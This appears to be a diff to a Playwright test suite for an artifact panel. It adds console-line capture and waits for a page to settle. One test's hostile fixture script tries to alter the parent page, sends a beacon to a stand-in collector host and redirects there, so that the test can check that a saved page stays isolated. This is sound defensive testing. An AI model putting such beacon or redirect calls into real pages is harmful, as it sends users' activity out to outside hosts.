@@ -8,6 +8,7 @@ import type { Frame, Page } from 'playwright-core';
 import { isThorough } from '../property-runs.js';
 import { findComplaints } from './axe-complaints.js';
 import { DemoSite, eventually, type EmptyPageOptions, type Visit } from './demo-server.js';
+import { waitForStillPage } from './still-page.js';
 
 /** A page with nothing but a panel, opened on an artifact. */
 async function openPanel(
@@ -97,7 +98,7 @@ describe('what the panel does with an artifact', { timeout: 900_000 }, () => {
     return { name: download.suggestedFilename(), text: await readFile(file, 'utf8'), file };
   }
 
-  /** Opens a file from the disk, and says every request that it made. */
+  /** Opens a file from the disk, and says every request that it made, and every line that it wrote. */
   async function fromDisk(file: string) {
     const context = await site.browser.newContext();
     const requests: string[] = [];
@@ -107,8 +108,10 @@ describe('what the panel does with an artifact', { timeout: 900_000 }, () => {
     const page = await context.newPage();
     const errors: string[] = [];
     page.on('pageerror', (error) => errors.push(error.message));
+    const lines: string[] = [];
+    page.on('console', (line) => lines.push(line.text()));
     await page.goto(pathToFileURL(file).href);
-    return { page, requests, errors, close: () => context.close() };
+    return { page, requests, errors, lines, close: () => context.close() };
   }
 
   it('a React artifact saved as a page runs from the disk and asks for nothing', async () => {
@@ -134,7 +137,7 @@ describe('what the panel does with an artifact', { timeout: 900_000 }, () => {
 try { parent.document.title = 'taken'; document.querySelector('#t').textContent = 'reached the page'; }
   catch { document.querySelector('#t').textContent = 'alone'; }
 try { navigator.sendBeacon('https://collect.example.net/b'); } catch {}
-setTimeout(() => { try { location.href = 'https://collect.example.net/n'; } catch {} }, 2_000);</script>`;
+setTimeout(() => { console.log('leaves'); try { location.href = 'https://collect.example.net/n'; } catch {} }, 2_000);</script>`;
     const { page, close } = await openPanel(site, 'html', [hostile]);
     await running(page);
     const { file } = await exported(page, /^\s*Save as web page\s*$/);
@@ -142,7 +145,8 @@ setTimeout(() => { try { location.href = 'https://collect.example.net/n'; } catc
     const seen = site.collected.length;
     const opened = await fromDisk(file);
     await opened.page.frameLocator('iframe').locator('#t', { hasText: 'alone' }).waitFor();
-    await opened.page.waitForTimeout(3_000);
+    await eventually('it has tried all of it', () => Promise.resolve(opened.lines.includes('leaves')));
+    await opened.page.waitForTimeout(1_000); // what does not arrive can only be waited for
     assert.equal(await opened.page.title(), 'Planner');
     assert.deepEqual(
       opened.requests.filter((url) => url !== pathToFileURL(file).href && !url.startsWith('chrome-error')),
@@ -406,9 +410,10 @@ setTimeout(() => { try { location.href = 'https://collect.example.net/n'; } catc
     // In the gate two of the three for each view, in turn: the editor and the diff look different on a phone.
     for (const [where, options] of looks.filter((_, look) => isThorough || (look + 1) % looks.length !== view)) {
       it(`axe finds nothing in ${name}, ${where}, and nothing sticks out`, async () => {
-        const { page, close } = await openPanel(site, 'react', HISTORY, { reducedMotion: 'reduce', ...options });
+        const visit = await openPanel(site, 'react', HISTORY, { reducedMotion: 'reduce', ...options });
+        const { page, close } = visit;
         await arrange(page);
-        await page.waitForTimeout(1_000);
+        await waitForStillPage(visit);
         assert.deepEqual(await findComplaints(page), []);
         const outside = await page.evaluate(() => {
           const root = document.querySelector('artifact-panel')!.shadowRoot!;
